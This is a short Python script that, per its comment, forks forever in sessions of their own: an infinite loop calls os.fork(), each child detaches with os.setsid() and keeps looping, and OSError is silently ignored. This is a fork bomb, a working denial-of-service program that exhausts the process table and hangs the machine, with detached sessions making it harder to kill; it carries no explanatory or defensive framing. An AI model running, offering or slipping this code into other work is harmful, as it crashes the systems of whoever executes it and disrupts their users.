# Forks for ever, in sessions of their own.
import os

while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        pass
